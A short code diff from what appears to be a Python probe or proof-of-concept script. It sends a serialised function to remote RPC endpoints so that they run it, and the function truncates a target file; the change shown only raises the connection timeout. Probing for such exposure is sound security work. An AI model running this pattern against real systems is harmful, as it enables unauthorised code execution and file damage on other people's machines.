@@ -40,7 +40,7 @@ if os.geteuid() == 0:
 
 async def tried(address, name, arguments):
     code = dumps(eval(f"lambda *_, **__: open({target!r}, 'w').close()"))
-    async with rpc(address, connection_args=arguments, timeout=3) as remote:
+    async with rpc(address, connection_args=arguments, timeout=30) as remote:
         return await getattr(remote, name)(function=code, args=dumps(()), kwargs=dumps({}))
 
 for address in addresses:
